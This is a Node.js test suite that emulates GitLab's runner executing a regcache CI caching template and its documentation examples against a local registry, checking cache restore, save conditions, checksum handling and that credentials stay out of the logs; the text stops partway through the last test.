// The GitLab CI template (ci/gitlab/regcache.gitlab-ci.yml) run the way GitLab runs it, with
// the jobs of docs/gitlab-ci.md, and the generic example of docs/ci.md; the real regcache
// against the loopback token registry (CI_REGISTRY), a local release server for downloads.
//
// GitLab is emulated here: the `.regcache` job's variables, before_script and after_script are
// read from the template and merged into a docs example job (the code blocks after
// `<!-- test: ID -->` markers) as `extends` does (hashes merge; the job's variables win), then
// run as gitlab-runner's bash shell runs them: before_script + script in one shell (errexit,
// pipefail, `: | eval '...'`), after_script in a second one with CI_JOB_STATUS, both in
// CI_PROJECT_DIR with the variables exported (their `$VAR` references expanded first, as the
// runner does). npm, cargo, rustc and make are small stand-ins on PATH.
// The cases run in order and share the registry repositories, which are emptied first.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { spawn, execFileSync } from 'node:child_process';
import { REGCACHE_BIN, SOURCE_DIR, serveFiles, startServices, tempDir } from './helpers.mjs';

const TEMPLATE = path.join(SOURCE_DIR, 'ci', 'gitlab', 'regcache.gitlab-ci.yml');
const GITLAB_DOC = path.join(SOURCE_DIR, 'docs', 'gitlab-ci.md');
const CI_DOC = path.join(SOURCE_DIR, 'docs', 'ci.md');
const SYSTEM_PATH = '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin';

// ------------------------------------------------------------------ the YAML subset
// NOT a general YAML parser. It reads the subset the template and the docs' example jobs use,
// and throws, naming the line, on anything else, so that a template using a new construct fails
// this test instead of being half-read. Understood:
//   - block mappings `key:` / `key: value` (keys [A-Za-z0-9_.-]+, no duplicates), block
//     sequences `- item`, each nested deeper than its parent, spaces only; a sequence item
//     may be a mapping that starts on the dash's line (`- key: value`);
//   - scalars: "double-quoted" without backslash escapes, 'single-quoted' ('' is a quote), and
//     plain one-line strings (no `: `, no leading indicator, not a bool/null/number);
//   - literal block scalars `|` (clip chomping only; no `|-`, `|+`, `|2`, no `>`);
//   - anchors `&name` on a value and aliases `*name` (a whole value);
//   - blank lines, comment lines, and ` # comments` after a value.
// Not understood (throws): flow collections, tags (`!reference`), merge keys (`<<`), folded or
// chomped block scalars, multi-line plain or quoted scalars, documents (`---`), tabs, `? ` keys.
function parseYamlSubset(text, name) {
  const source = text.replace(/\n$/, '').split('\n');
  const lines = [...source];  // `- key: value` items become `  key: value` here
  const anchors = new Map();
  let i = 0;
  const fail = (n, why) => {
    throw new Error(`${name}:${n + 1}: ${why}: ${JSON.stringify(source[n] ?? '')} ` +
      '(outside the YAML subset tests/action/gitlab-template.test.mjs parses: extend its parser deliberately)');
  };
  const indentOf = (n) => {
    const lead = /^[ \t]*/.exec(lines[n])[0];
    if (lead.includes('\t')) fail(n, 'a tab in the indentation');
    return lead.length;
  };
  const ignorable = (n) => /^\s*(#.*)?$/.test(lines[n]);
  const skipIgnorable = () => { while (i < lines.length && ignorable(i)) i++; };

  // A one-line scalar `s` (anchor already removed) from line n, with an optional comment after it.
  function scalar(s, n) {
    let value;
    let rest;
    if (s.startsWith('"')) {
      const end = s.indexOf('"', 1);
      if (end < 0) fail(n, 'an unterminated or multi-line double-quoted scalar');
      value = s.slice(1, end);
      if (value.includes('\\')) fail(n, 'a backslash escape in a double-quoted scalar');
      rest = s.slice(end + 1);
    } else if (s.startsWith("'")) {
      let j = 1;
      value = '';
      for (;;) {
        if (j >= s.length) fail(n, 'an unterminated or multi-line single-quoted scalar');
        if (s[j] === "'" && s[j + 1] === "'") { value += "'"; j += 2; } else if (s[j] === "'") { j++; break; } else value += s[j++];
      }
      rest = s.slice(j);
    } else {
      const hash = s.search(/\s#/);
      value = (hash < 0 ? s : s.slice(0, hash)).trimEnd();
      rest = '';
      if (/^[-?:,[\]{}#&*!|>'"%@`]/.test(value) && !/^-\S/.test(value)) fail(n, 'a plain scalar starting with an indicator');
      if (/: |:$/.test(value)) fail(n, 'a plain scalar with ": " (a nested mapping?)');
      if (/^(true|false|yes|no|on|off|null|~)$/i.test(value) || /^[-+]?\.?[0-9]/.test(value)) {
        fail(n, 'a plain scalar YAML reads as a bool, null or number');
      }
    }
    if (!/^(\s+#.*)?\s*$/.test(rest)) fail(n, 'text after a quoted scalar');
    return value;
  }

  // A literal block scalar whose header `|` is on line i-1, nested in a node at parentIndent.
  function literal(parentIndent) {
    let first = i;
    while (first < lines.length && /^ *$/.test(lines[first])) first++;
    if (first >= lines.length || indentOf(first) <= parentIndent) fail(i - 1, 'an empty literal block scalar');
    const indent = indentOf(first);
    const body = [];
    while (i < lines.length && (/^ *$/.test(lines[i]) || /^ */.exec(lines[i])[0].length >= indent)) {
      if (lines[i].slice(0, Math.min(indent, lines[i].length)).includes('\t')) fail(i, 'a tab in the indentation');
      body.push(lines[i].slice(indent));
      i++;
    }
    while (body.length && body[body.length - 1] === '') body.pop();
    return body.join('\n') + '\n';
  }

  // The value after `key:` or `- ` on line i (already split off as `text`); consumes its lines.
  function value(text, parentIndent) {
    const n = i++;
    let s = text.trim();
    let anchor = null;
    const a = /^&([A-Za-z0-9_-]+)(\s+|$)/.exec(s);
    if (a) { anchor = a[1]; s = s.slice(a[0].length); }
    let v;
    if (/^[|>]/.test(s) && !/^\|(\s+#.*)?$/.test(s)) fail(n, 'a block scalar other than a plain literal `|`');
    if (s.startsWith('!')) fail(n, 'a tag');
    if (s === '' || s.startsWith('#')) {
      skipIgnorable();
      if (i >= lines.length || indentOf(i) <= parentIndent) fail(n, 'an empty value or a sequence not indented under its key');
      v = node(indentOf(i));
    } else if (/^\|(\s+#.*)?$/.test(s)) {
      v = literal(parentIndent);
    } else if (s.startsWith('*')) {
      const m = /^\*([A-Za-z0-9_-]+)(\s+#.*)?$/.exec(s);
      if (!m || anchor) fail(n, 'an alias that is not a whole value');
      if (!anchors.has(m[1])) fail(n, `an alias to an unknown anchor ${m[1]}`);
      v = anchors.get(m[1]);
    } else {
      v = scalar(s, n);
    }
    if (anchor) anchors.set(anchor, v);
    return v;
  }

  // The mapping or sequence whose lines start at column `indent`.
  function node(indent) {
    const isItem = (n) => /^-( |$)/.test(lines[n].slice(indent));
    const seq = isItem(i);
    const out = seq ? [] : {};
    for (;;) {
      skipIgnorable();
      if (i >= lines.length) break;
      const ind = indentOf(i);
      if (ind < indent) break;
      if (ind > indent) fail(i, 'unexpected indentation');
      if (isItem(i) !== seq) fail(i, 'sequence items and mapping keys mixed at one level');
      if (seq && /^-\s+[A-Za-z0-9_.-]+:(\s|$)/.test(lines[i].slice(indent))) {
        lines[i] = lines[i].replace('-', ' ');
        out.push(node(indentOf(i)));
      } else if (seq) {
        out.push(value(lines[i].slice(indent + 1), indent));
      } else {
        const m = /^([A-Za-z0-9_.-]+):(\s.*)?$/.exec(lines[i].slice(indent));
        if (!m) fail(i, 'not a "key:" line');
        if (Object.hasOwn(out, m[1])) fail(i, `duplicate key ${m[1]}`);
        out[m[1]] = value(m[2] ?? '', indent);
      }
    }
    return out;
  }

  skipIgnorable();
  if (i >= lines.length) fail(0, 'an empty document');
  if (indentOf(i) !== 0) fail(i, 'a document not starting at column 0');
  const doc = node(0);
  skipIgnorable();
  if (i < lines.length) fail(i, 'unexpected text');
  if (Array.isArray(doc)) fail(0, 'a top-level sequence');
  return doc;
}

// The fenced code block right after the line `<!-- test: ID -->` in the Markdown file `file`
// (the marker's indentation, inside a list item, is taken off the block's lines).
function markedBlock(file, id) {
  const lines = fs.readFileSync(file, 'utf8').split('\n');
  const at = lines.flatMap((l, n) => (l.trim() === `<!-- test: ${id} -->` ? [n] : []));
  assert.equal(at.length, 1, `${file}: expected one "<!-- test: ${id} -->" marker before a code block`);
  const lead = /^ */.exec(lines[at[0]])[0];
  const fence = new RegExp(`^${lead}(\`\`\`+)\\w*\\s*$`).exec(lines[at[0] + 1] || '');
  assert.ok(fence, `${file}:${at[0] + 2}: the "${id}" marker is not followed by a code fence`);
  const end = lines.findIndex((l, n) => n > at[0] + 1 && l === lead + fence[1]);
  assert.ok(end > 0, `${file}: the "${id}" code block is not closed`);
  const body = lines.slice(at[0] + 2, end);
  body.forEach((l, n) => assert.ok(l === '' || l.startsWith(lead), `${file}:${at[0] + 3 + n}: less indented than its marker`));
  return body.map((l) => l.slice(lead.length)).join('\n') + '\n';
}

// ------------------------------------------------------------------ the jobs
const template = parseYamlSubset(fs.readFileSync(TEMPLATE, 'utf8'), TEMPLATE);

// The one job of the docs' code block `id` (and the rest of the block, e.g. `include`).
function docJob(id) {
  const doc = parseYamlSubset(markedBlock(GITLAB_DOC, id), `${GITLAB_DOC} (block "${id}")`);
  const names = Object.keys(doc).filter((k) => k !== 'include');
  assert.equal(names.length, 1, `the "${id}" block defines one job`);
  const job = doc[names[0]];
  assert.equal(job.extends, '.regcache', `the "${id}" job extends .regcache`);
  const unknown = Object.keys(job).filter((k) => !['extends', 'image', 'variables', 'script'].includes(k));
  assert.deepEqual(unknown, [], `the "${id}" job has keys this emulation does not run`);
  for (const name of Object.keys(job.variables || {})) {
    assert.ok(name in template['.regcache'].variables, `the "${id}" job sets ${name}, which the template lacks`);
  }
  return { name: names[0], doc, job };
}
const explicitKeys = docJob('gitlab-explicit-keys');
const presetJob = docJob('gitlab-preset');
const saveInScript = docJob('gitlab-save-in-script');

// A docs job with the template merged in as `extends` does it (hashes merge, the job's win).
function resolve({ name, job }) {
  const base = template['.regcache'];
  return {
    name,
    variables: { ...base.variables, ...job.variables },
    before_script: job.before_script || base.before_script,
    script: job.script,
    after_script: job.after_script || base.after_script,
  };
}

const shq = (s) => `'${s.replace(/'/g, "'\\''")}'`;

// The script gitlab-runner's bash shell generates for a list of commands (shells/bash.go,
// shells/abstract.go: each command trimmed, announced, run inside one eval).
function runnerScript(commands, dir) {
  let body = `cd ${shq(dir)}\n`;
  for (const raw of commands) {
    const command = raw.trim();
    const first = command.split('\n')[0];
    body += `echo ${shq(`$ ${first}${command.includes('\n') ? ' # collapsed multi-line command' : ''}`)}\n`;
    body += `${command}\n`;
  }
  return 'trap exit 1 TERM\n\n' +
    'if set -o | grep pipefail > /dev/null; then set -o pipefail; fi; set -o errexit\n' +
    'set +o noclobber\n' +
    `: | eval ${shq(body)}\n` +
    'exit 0\n';
}

// Runs `script` on the stdin of `shell args`, with exactly `env`, in `cwd`: { code, output }.
function runShell(shell, args, script, env, cwd) {
  return new Promise((resolve, reject) => {
    const child = spawn(shell, args, { env, cwd, stdio: ['pipe', 'pipe', 'pipe'] });
    let output = '';
    child.stdout.on('data', (c) => { output += c; });
    child.stderr.on('data', (c) => { output += c; });
    const timer = setTimeout(() => child.kill('SIGKILL'), 60000);
    child.on('error', reject);
    child.on('close', (code) => { clearTimeout(timer); resolve({ code, output }); });
    child.stdin.end(script);
  });
}

// $VAR and ${VAR} in a variable's value, expanded against `vars` as the runner does.
const expand = (value, vars) => value.replace(/\$(?:\{(\w+)\}|(\w+))/g, (_, a, b) => vars[a || b] ?? '');

// Stand-ins for the tools the examples' scripts call. Each adds an entry for its lockfile's
// digest and never rewrites one; the entries hold a nonce, so a re-created file differs from
// a restored one, and each says whether it found its entry ("hit") or made it ("made").
const STUBS = {
  npm: `#!/bin/sh
set -e
case "$1" in
  ci)
    cache=$HOME/.npm
    while [ $# -gt 0 ]; do [ "$1" = --cache ] && cache=$2; shift; done
    sum=$(sha256sum package-lock.json | cut -c1-16)
    if [ -e "$cache/_cacache/content/$sum" ]; then echo "npm-stub: hit $sum"; exit 0; fi
    mkdir -p "$cache/_cacache/content" "$cache/_cacache/index/$sum"
    cp package-lock.json "$cache/_cacache/content/$sum"
    echo "$sum $(date +%s%N) $$" > "$cache/_cacache/index/$sum/entry"
    chmod 600 "$cache/_cacache/index/$sum/entry"
    echo "npm-stub: made $sum" ;;
  test) exit "\${NPM_TEST_EXIT:-0}" ;;
  *) echo "npm-stub: unexpected arguments: $*" >&2; exit 2 ;;
esac
`,
  rustc: `#!/bin/sh
[ "$1" = -vV ] || { echo "rustc-stub: unexpected arguments: $*" >&2; exit 2; }
printf 'rustc 1.83.0 (90b35a623 2024-11-26)\\nbinary: rustc\\nhost: x86_64-unknown-linux-gnu\\nrelease: 1.83.0\\n'
`,
  // cargo: the dependency `dep` goes to the registry and target/release/deps; the workspace's
  // own binary is rebuilt every time (the rust preset leaves it out of the cache).
  cargo: `#!/bin/sh
set -e
[ "$*" = "build --release" ] || { echo "cargo-stub: unexpected arguments: $*" >&2; exit 2; }
sum=$(cat Cargo.toml Cargo.lock | sha256sum | cut -c1-16)
if [ -e "target/release/deps/libdep-$sum.rlib" ]; then
  echo "cargo-stub: hit $sum"
else
  mkdir -p ~/.cargo/registry/index ~/.cargo/registry/cache target/release/deps "target/release/.fingerprint/dep-$sum"
  echo "index $sum" > ~/.cargo/registry/index/"$sum"
  echo "crate $sum $(date +%s%N) $$" > ~/.cargo/registry/cache/"dep-$sum.crate"
  echo "rlib $sum $(date +%s%N) $$" > "target/release/deps/libdep-$sum.rlib"
  echo "$sum" > "target/release/.fingerprint/dep-$sum/lib-dep"
  echo "cargo-stub: made $sum"
fi
name=$(sed -n 's/^name = "\\(.*\\)"$/\\1/p' Cargo.toml | head -n 1)
printf '#!/bin/sh\\necho %s %s\\n' "$name" "$(date +%s%N)" > "target/release/$name"
chmod 755 "target/release/$name"
`,
  make: `#!/bin/sh
set -e
[ "$1" = build ] || { echo "make-stub: unexpected arguments: $*" >&2; exit 2; }
sum=$(sha256sum lockfile | cut -c1-16)
if [ -e "build/$sum" ]; then echo "make-stub: hit $sum"; exit 0; fi
mkdir -p build ~/.cache/tool
echo "$sum $(date +%s%N) $$" > "build/$sum"
echo "tool state $sum $$" > ~/.cache/tool/"$sum"
echo "make-stub: made $sum"
`,
};

// A fresh machine: workspace, home, TMPDIR, and a bin directory on PATH with the stand-ins
// and (unless withRegcache is false) regcache.
function machine({ withRegcache = true } = {}) {
  const root = tempDir('regcache-gitlab-');
  const dirs = {
    root,
    project: path.join(root, 'builds', 'group', 'project'),
    home: path.join(root, 'home'),
    tmp: path.join(root, 'tmp'),
    bin: path.join(root, 'bin'),
  };
  for (const d of Object.values(dirs)) fs.mkdirSync(d, { recursive: true });
  for (const [name, body] of Object.entries(STUBS)) fs.writeFileSync(path.join(dirs.bin, name), body, { mode: 0o755 });
  if (withRegcache) fs.symlinkSync(path.resolve(REGCACHE_BIN), path.join(dirs.bin, 'regcache'));
  dirs.PATH = `${dirs.bin}:${SYSTEM_PATH}`;
  return dirs;
}

// Every file under `dir`: relative path -> "mode content", for exact comparisons.
function tree(dir) {
  const out = {};
  const walk = (d) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isDirectory()) walk(p);
      else out[path.relative(dir, p)] = `${(fs.lstatSync(p).mode & 0o777).toString(8)} ${fs.readFileSync(p, 'utf8')}`;
    }
  };
  if (fs.existsSync(dir)) walk(dir);
  return out;
}

// Entries of `b` that `a` lacks or holds differently.
const changed = (a, b) => Object.keys(b).filter((k) => a[k] !== b[k]);

let services;
let reg;       // the token registry's host:port: CI_REGISTRY
let password;  // its password: CI_REGISTRY_PASSWORD
let server;
let baseUrl;
const requests = [];
let jobId = 7000;
const ASSET = `regcache-linux-${execFileSync('uname', ['-m'], { encoding: 'utf8' }).trim()}.tar.gz`;
const gitlabStore = () => `${reg}/group/project/cache`;
const ciStore = () => `${reg}/team/app/cache`;

// Runs regcache on `store` with the token registry's credentials; returns its stdout.
function regcache(store, ...args) {
  return execFileSync(REGCACHE_BIN, ['--store', store, ...args], {
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { PATH: SYSTEM_PATH, HOME: tempDir(), REGCACHE_USERNAME: services.vars.REG_TOKEN_USER, REGCACHE_PASSWORD: password },
  });
}
const entries = (store) => JSON.parse(regcache(store, '--json', 'list'));
const keys = (store) => entries(store).map((e) => e.key);

before(async () => {
  services = await startServices();
  reg = services.vars.REG_TOKEN;
  password = services.vars.REG_TOKEN_PASSWORD;
  // The registries' storage outlives a run: start from empty repositories.
  for (const store of [gitlabStore(), ciStore()]) {
    const old = keys(store);
    if (old.length) regcache(store, 'delete', ...old);
  }
  // A release server for the template's download. The asset is laid out like the release
  // workflow's (regcache and lib/ at the top); its regcache runs the one under test.
  const dir = tempDir();
  fs.mkdirSync(path.join(dir, 'pkg', 'lib'), { recursive: true });
  fs.writeFileSync(path.join(dir, 'pkg', 'regcache'), `#!/bin/sh\nexec ${shq(path.resolve(REGCACHE_BIN))} "$@"\n`, { mode: 0o755 });
  execFileSync('tar', ['-czf', path.join(dir, ASSET), '-C', path.join(dir, 'pkg'), 'regcache', 'lib']);
  execFileSync('sha256sum', [ASSET], { cwd: dir, stdio: ['ignore', fs.openSync(path.join(dir, `${ASSET}.sha256`), 'w'), 'inherit'] });
  const tarball = fs.readFileSync(path.join(dir, ASSET));
  const files = new Map([
    [`/good/${ASSET}`, tarball], [`/good/${ASSET}.sha256`, fs.readFileSync(path.join(dir, `${ASSET}.sha256`))],
    [`/bad/${ASSET}`, tarball], [`/bad/${ASSET}.sha256`, `${'0'.repeat(64)}  ${ASSET}\n`],
  ]);
  ({ server, baseUrl } = await serveFiles(files, requests));
});
after(async () => {
  if (server) await new Promise((resolve) => server.close(resolve));
  if (services) services.stop();
});

// Runs `job` (resolved) as one GitLab job on a fresh machine whose checkout holds `checkout`
// (file -> content): before_script + script, then after_script with CI_JOB_STATUS. `variables`
// are more job variables, `ci` overrides predefined ones, `env` reaches the stand-ins only.
// Resolves to { id, dirs, step, after, status, key (the file before_script wrote), tree(rel) }.
async function runJob(job, checkout, { variables = {}, ci = {}, env = {}, withRegcache = true, shell = 'bash', jobStatus, machineDirs } = {}) {
  const dirs = machineDirs || machine({ withRegcache });
  for (const [file, content] of Object.entries(checkout)) fs.writeFileSync(path.join(dirs.project, file), content);
  const id = String(++jobId);
  const predefined = {
    PATH: dirs.PATH, HOME: dirs.home, TMPDIR: dirs.tmp, LANG: 'C.UTF-8',
    CI: 'true', GITLAB_CI: 'true', CI_SERVER: 'yes',
    CI_PROJECT_DIR: dirs.project, CI_BUILDS_DIR: path.join(dirs.root, 'builds'), CI_PROJECT_PATH: 'group/project',
    CI_JOB_ID: id, CI_PIPELINE_ID: String(500 + jobId), CI_JOB_NAME: job.name,
    CI_COMMIT_REF_NAME: 'main', CI_COMMIT_BRANCH: 'main', CI_DEFAULT_BRANCH: 'main',
    CI_COMMIT_SHA: crypto.createHash('sha1').update(id).digest('hex'),
    CI_REGISTRY: reg, CI_REGISTRY_IMAGE: `${reg}/group/project`,
    CI_REGISTRY_USER: services.vars.REG_TOKEN_USER, CI_REGISTRY_PASSWORD: password,
    ...ci,
  };
  const vars = { ...predefined };
  for (const [name, v] of Object.entries({ ...job.variables, ...variables })) vars[name] = expand(v, predefined);
  const step = await runShell(shell, [], runnerScript([...job.before_script, ...job.script], dirs.project),
    { ...vars, ...env }, dirs.project);
  const status = jobStatus || (step.code === 0 ? 'success' : 'failed');
  const afterRun = await runShell(shell, [], runnerScript(job.after_script, dirs.project),
    { ...vars, ...env, CI_JOB_STATUS: status }, dirs.project);
  for (const secret of new Set([password, predefined.CI_REGISTRY_PASSWORD])) {
    for (const r of [step, afterRun]) assert.ok(!r.output.includes(secret), `a registry password was printed:\n${r.output}`);
  }
  let key = null;
  try { key = fs.readFileSync(path.join(dirs.tmp, `regcache-${id}`, 'key'), 'utf8').trim(); } catch { /* none */ }
  const rel = (p) => (p.startsWith('~/') ? path.join(dirs.home, p.slice(2)) : path.join(dirs.project, p));
  return { id, dirs, step, after: afterRun, status, key, tree: (p) => tree(rel(p)) };
}

const log = (r) => `--- before_script + script (exit ${r.step.code}):\n${r.step.output}\n` +
  `--- after_script (exit ${r.after.code}):\n${r.after.output}`;
const clean = (r) => {
  assert.equal(r.step.code, 0, log(r));
  assert.equal(r.after.code, 0, log(r));
  assert.doesNotMatch(r.step.output + r.after.output, /regcache: (error|restore failed|save failed|no binary)/, log(r));
};

// The key regcache resolves for `template` in a checkout holding `checkout`.
function expectedKey(template, checkout) {
  const dir = tempDir();
  for (const [file, content] of Object.entries(checkout)) fs.writeFileSync(path.join(dir, file), content);
  return execFileSync(REGCACHE_BIN, ['--workspace', dir, 'key', template],
    { encoding: 'utf8', cwd: dir, env: { PATH: SYSTEM_PATH, HOME: dir } }).trim();
}

const npmJob = resolve(explicitKeys);
const cargoCheckout = (name) => ({
  'Cargo.toml': `[package]\nname = "${name}"\nversion = "0.1.0"\n\n[dependencies]\ndep = "1"\n`,
  'Cargo.lock': `version = 4\n\n[[package]]\nname = "${name}"\nversion = "0.1.0"\ndependencies = ["dep"]\n\n` +
    '[[package]]\nname = "dep"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n',
});
const lock = (v) => ({ 'package-lock.json': `{"name":"app","lockfileVersion":3,"packages":{"dep":"${v}"}}\n` });
const npmKey = (v) => expectedKey(explicitKeys.job.variables.REGCACHE_KEY, lock(v));
let first;  // the first pipeline's job

test('the template and the docs examples parse into exactly what this test emulates', () => {
  assert.deepEqual(Object.keys(template), ['.regcache'], 'the template defines one hidden job');
  const base = template['.regcache'];
  assert.deepEqual(Object.keys(base).sort(), ['after_script', 'before_script', 'variables'],
    'the .regcache job has keys this emulation does not run');
  for (const [name, v] of Object.entries(base.variables)) assert.equal(typeof v, 'string', name);
  for (const list of [base.before_script, base.after_script]) {
    assert.ok(Array.isArray(list) && list.length > 0 && list.every((c) => typeof c === 'string'));
  }
  // The docs' variables table lists exactly the template's variables.
  const table = fs.readFileSync(GITLAB_DOC, 'utf8').split('\n## Variables')[1].split('\n## ')[0];
  assert.deepEqual([...table.matchAll(/^\| `(\w+)` \|/gm)].map((m) => m[1]).sort(), Object.keys(base.variables).sort());
  assert.deepEqual(presetJob.doc.include.map((i) => Object.keys(i).sort()), [['file', 'project']]);
  assert.match(presetJob.job.variables.REGCACHE_RELEASE_URL, /^https:\/\/github\.com\/[^/]+\/regcache\/releases\/download\/v[0-9.]+$/);
  // The parser refuses what it does not understand, loudly.
  for (const bad of ['a:\n  - !reference [.x, y]\n', 'a: [1, 2]\n', 'a: |-\n  x\n', 'a:\n\t- x\n', '<<: *x\n',
    'a: {b: c}\n', 'a:\n- x\n', 'a: "x\\ny"\n', 'a: true\n', '---\na: b\n', 'a: >\n  x\n', 'a: b: c\n',
    'a: "x\n  y"\n', 'a: b\n  c: d\n', 'a: *nowhere\n', 'a: 1\n', 'a: b\na: c\n']) {
    assert.throws(() => parseYamlSubset(bad, 'sample'), /outside the YAML subset/, JSON.stringify(bad));
  }
  assert.deepEqual(parseYamlSubset("x:\n  - &s |\n    a\n\n      b\n    # c\n  - *s\n  - 'it''s'  # c\n" +
    '  - k: v\n    l: w\ny: "q" # c\n', 's'),
  { x: ['a\n\n  b\n# c\n', 'a\n\n  b\n# c\n', "it's", { k: 'v', l: 'w' }], y: 'q' });
});

test('first pipeline: before_script misses, the job fills .npm, after_script saves under the key resolved before the job', async () => {
  first = await runJob(npmJob, lock('1'));
  clean(first);
  assert.equal(first.key, npmKey('1'), `before_script recorded the key\n${log(first)}`);
  assert.match(first.step.output, new RegExp(`Cache miss for key ${first.key}`));
  assert.match(first.step.output, /npm-stub: made/);
  const list = entries(gitlabStore());
  assert.deepEqual(list.map((e) => e.key), [first.key], 'one entry, in $CI_REGISTRY_IMAGE/cache');
  assert.equal(list[0].files, Object.keys(first.tree('.npm')).length, 'holding the .npm files');
});

test('second pipeline in a fresh workspace: before_script restores the exact files; the save writes nothing', async () => {
  const before = entries(gitlabStore());
  const second = await runJob(npmJob, lock('1'));
  clean(second);
  assert.match(second.step.output, /npm-stub: hit/, `the job found its cache\n${log(second)}`);
  assert.deepEqual(second.tree('.npm'), first.tree('.npm'), 'the same files, contents and modes');
  assert.deepEqual(entries(gitlabStore()), before, 'the entry is unchanged');
});

test('a changed key: a partial restore through REGCACHE_RESTORE_KEYS, then a save under the new key', async () => {
  const job = await runJob(npmJob, lock('2'));
  clean(job);
  assert.equal(job.key, npmKey('2'));
  assert.notEqual(job.key, first.key);
  assert.match(job.step.output, /npm-stub: made/);
  const old = first.tree('.npm');
  const now = job.tree('.npm');
  assert.deepEqual(changed(now, old), [], `everything of ${first.key} restored`);
  assert.equal(changed(old, now).length, 2, 'and the job added its own entry');
  assert.deepEqual(keys(gitlabStore()), [job.key, first.key]);
});

test('a failed job (CI_JOB_STATUS=failed) does not save, unless REGCACHE_SAVE_ON_FAILURE is true', async () => {
  const failed = await runJob(npmJob, lock('3'), { env: { NPM_TEST_EXIT: '1' } });
  assert.notEqual(failed.step.code, 0, 'npm test failed the job');
  assert.equal(failed.status, 'failed');
  assert.equal(failed.after.code, 0, log(failed));
  assert.match(failed.after.output, /regcache: the job status is failed \(REGCACHE_SAVE_ON_FAILURE=true saves anyway\): not saving/, log(failed));
  assert.ok(!keys(gitlabStore()).includes(failed.key), 'nothing saved');
  const saved = await runJob(npmJob, lock('3'), { env: { NPM_TEST_EXIT: '1' }, variables: { REGCACHE_SAVE_ON_FAILURE: 'true' } });
  assert.equal(saved.status, 'failed');
  assert.ok(keys(gitlabStore()).includes(saved.key), `saved anyway\n${log(saved)}`);
});

test('a cancelled job never saves, and a merge request from a fork saves only with REGCACHE_SAVE_IF=true', async () => {
  const cancelled = await runJob(npmJob, lock('c'), { jobStatus: 'canceled', variables: { REGCACHE_SAVE_ON_FAILURE: 'true' } });
  assert.match(cancelled.after.output, /regcache: the job status is canceled: not saving/, log(cancelled));
  assert.ok(!keys(gitlabStore()).includes(cancelled.key), 'a cancelled job saved');
  const fork = { CI_PROJECT_ID: '7', CI_MERGE_REQUEST_SOURCE_PROJECT_ID: '99' };
  const fromFork = await runJob(npmJob, lock('f'), { ci: fork });
  assert.match(fromFork.after.output, /regcache: this merge request comes from a fork .*: not saving/, log(fromFork));
  assert.ok(!keys(gitlabStore()).includes(fromFork.key), 'a fork saved');
  const allowed = await runJob(npmJob, lock('f'), { ci: fork, variables: { REGCACHE_SAVE_IF: 'true' } });
  clean(allowed);
  assert.ok(keys(gitlabStore()).includes(allowed.key), log(allowed));
  const sameProject = await runJob(npmJob, lock('s'), { ci: { CI_PROJECT_ID: '7', CI_MERGE_REQUEST_SOURCE_PROJECT_ID: '7' } });
  assert.ok(keys(gitlabStore()).includes(sameProject.key), `a merge request in the project saves\n${log(sameProject)}`);
  const never = await runJob(npmJob, lock('n'), { variables: { REGCACHE_SAVE_IF: 'false' } });
  assert.match(never.after.output, /regcache: REGCACHE_SAVE_IF is false: not saving/, log(never));
});

test('REGCACHE_PRESET "rust, node": the blank after the comma is not part of a name', async () => {
  const job = await runJob(resolve(presetJob), { ...cargoCheckout('app'), ...lock('p') },
    { variables: { REGCACHE_PRESET: 'rust, node', REGCACHE_STORE: `${reg}/group/project/presets` } });
  clean(job);
  assert.match(job.key, /^rust-linux-/, log(job));
  assert.doesNotMatch(job.step.output, /unknown preset/, log(job));
});

test('another user\'s directory at the job\'s path skips caching instead of running what it holds', async () => {
  if (process.getuid() !== 0) return;  // needs root to play the other user
  const dirs = machine({ withRegcache: false });
  const id = String(jobId + 1);
  const planted = path.join(dirs.tmp, `regcache-${id}`);
  fs.mkdirSync(planted, { recursive: true });
  fs.writeFileSync(path.join(planted, 'regcache'), '#!/bin/sh\necho PLANTED-RAN\n', { mode: 0o755 });
  fs.chownSync(planted, 65534, 65534);
  const job = await runJob(resolve(presetJob), cargoCheckout('app'), { machineDirs: dirs, withRegcache: false });
  assert.match(job.step.output, /is not this user's own directory: caching skipped/, log(job));
  assert.doesNotMatch(job.step.output + job.after.output, /PLANTED-RAN/, log(job));
  // Its steps write and remove files of their own only (a first version removed /dev/null).
  assert.ok(fs.statSync('/dev/null').isCharacterDevice(), '/dev/null is no longer a device');
  assert.deepEqual(fs.readdirSync(planted), ['regcache'], 'the other user\'s directory was written to');
});

test('a registry that refuses the job token: restore and save fail, the job does not, and no password shows', async () => {
  const before = entries(gitlabStore());
  const job = await runJob(npmJob, lock('1'), { ci: { CI_REGISTRY_PASSWORD: 'wrong-job-token-d41d8cd9' } });
  assert.equal(job.step.code, 0, log(job));
  assert.equal(job.after.code, 0, log(job));
  if (process.env.DUMP) fs.writeFileSync(process.env.DUMP, log(job));
  assert.match(job.step.output, /regcache: restore failed; the job runs without a cache/);
  assert.match(job.step.output, /npm-stub: made/);
  assert.match(job.after.output, /regcache: save failed/);
  assert.deepEqual(entries(gitlabStore()), before);
});

test('with sh (dash) instead of bash, as in an image without bash: the same restore and save', async () => {
  const job = await runJob(npmJob, lock('sh'), { shell: 'sh' });
  clean(job);
  // A partial restore of the newest npm- entry, which holds what every earlier job made.
  assert.deepEqual(changed(job.tree('.npm'), first.tree('.npm')), [], log(job));
  assert.match(job.step.output, /npm-stub: made/);
  assert.equal(keys(gitlabStore())[0], job.key, 'saved');
});

test('the preset example without regcache on PATH: the template downloads and checks the release asset once per job', async () => {
  const job = resolve(presetJob);
  const checkout = cargoCheckout('app');
  const variables = { REGCACHE_RELEASE_URL: `${baseUrl}/good/` };  // a trailing slash works too
  requests.length = 0;
  const one = await runJob(job, checkout, { variables, withRegcache: false });
  clean(one);
  assert.deepEqual(requests, [`/good/${ASSET}`, `/good/${ASSET}.sha256`], 'after_script reuses the download');
  assert.match(one.key, /^rust-linux-/);
  assert.match(one.step.output, /cargo-stub: made/);
  assert.ok(keys(gitlabStore()).includes(one.key), log(one));
  const two = await runJob(job, checkout, { variables: { REGCACHE_RELEASE_URL: `${baseUrl}/good` }, withRegcache: false });
  clean(two);
  assert.match(two.step.output, /cargo-stub: hit/, log(two));
  assert.deepEqual(two.tree('~/.cargo/registry'), one.tree('~/.cargo/registry'));
